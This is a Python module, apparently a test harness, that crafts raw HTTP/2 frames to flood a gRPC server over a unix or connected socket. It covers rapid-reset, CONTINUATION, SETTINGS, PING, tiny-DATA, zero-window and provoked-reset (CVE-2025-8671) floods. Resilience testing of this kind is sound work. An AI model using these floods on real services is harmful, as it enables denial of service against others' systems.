"""A raw HTTP/2 sender for floods: frames made by hand, as fast as they are taken."""
import select
import socket
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW_SIZE = 4


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(word):
    return bytes([len(word)]) + word


def request_headers(path):
    """HPACK without Huffman and without a table: POST, http, the path, and what gRPC wants."""
    return (b"\x83\x86\x04" + text(path) + b"\x01" + text(b"x") + b"\x0f\x10" + text(b"application/grpc") +
            b"\x00" + text(b"te") + text(b"trailers"))


HEALTH = request_headers(b"/grpc.health.v1.Health/Check")


def rapid_resets(count):
    for i in range(count):
        stream = 2 * i + 1
        yield (frame(HEADERS, END_HEADERS, stream, HEALTH) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08"))


def continuations(count):
    yield frame(HEADERS, 0, 1, HEALTH)
    for _ in range(count):
        yield frame(CONTINUATION, 0, 1, b"\x00" + text(b"filler") + text(b"x" * 64))


def settings(count):
    for _ in range(count):
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 65535))


def pings(count):
    for _ in range(count):
        yield frame(PING, 0, 0, b"12345678")


def tiny_data(count):
    yield frame(HEADERS, END_HEADERS, 1, HEALTH)
    for _ in range(count):
        yield frame(DATA, 0, 1, b"\0")


def provoked_resets(count):
    """Requests that the server refuses before they end, so that it resets their streams itself, as in
    CVE-2025-8671."""
    for i in range(count):
        yield frame(HEADERS, END_HEADERS, 2 * i + 1, request_headers(b"/no/Such"))


def window_zero(count):
    """Calls whose replies are not let out. The client's own SETTINGS say so first."""
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0))
    for i in range(count):
        yield (frame(HEADERS, END_HEADERS, 2 * i + 1, HEALTH) + frame(DATA, END_STREAM, 2 * i + 1, b"\0" * 5))


class Flood:
    """One connection, to a unix socket or over one that is connected. What the server says is read away, so
    that it is not that which stops it."""

    def __init__(self, target):
        if isinstance(target, socket.socket):
            self.socket = target
        else:
            self.socket = socket.socket(socket.AF_UNIX)
            self.socket.connect(target)
        self.sent = 0

    def send(self, frames, batch_size=256, pause_s=0):
        """Whether the server closed before all of these went. A pause leaves it time to answer a batch."""
        batch = [PREFACE + frame(SETTINGS)]
        try:
            for one in frames:
                batch.append(one)
                if len(batch) == batch_size:
                    self.flush(batch)
                    self.read_for(pause_s)
            self.flush(batch)
        except (BrokenPipeError, ConnectionResetError):
            return True
        return False

    def flush(self, batch):
        data, count = b"".join(batch), len(batch)
        batch.clear()
        while data:
            readable, writable, _ = select.select([self.socket], [self.socket], [], 5)
            if readable and not self.is_open():
                raise BrokenPipeError
            if writable:
                data = data[self.socket.send(data, socket.MSG_DONTWAIT):]
        self.sent += count

    def read_for(self, pause_s):
        end = time.monotonic() + pause_s
        while (left_s := end - time.monotonic()) > 0:
            if select.select([self.socket], [], [], left_s)[0] and not self.is_open():
                raise BrokenPipeError

    def is_open(self):
        """Reads what is there; whether the server's end is open."""
        try:
            return self.socket.recv(65536, socket.MSG_DONTWAIT) != b""
        except BlockingIOError:
            return True
        except ConnectionResetError:
            return False

    def is_cut_within(self, deadline_s):
        """Waits for the server's end of the connection."""
        end = time.monotonic() + deadline_s
        while time.monotonic() < end:
            if select.select([self.socket], [], [], 0.2)[0] and not self.is_open():
                return True
        return False
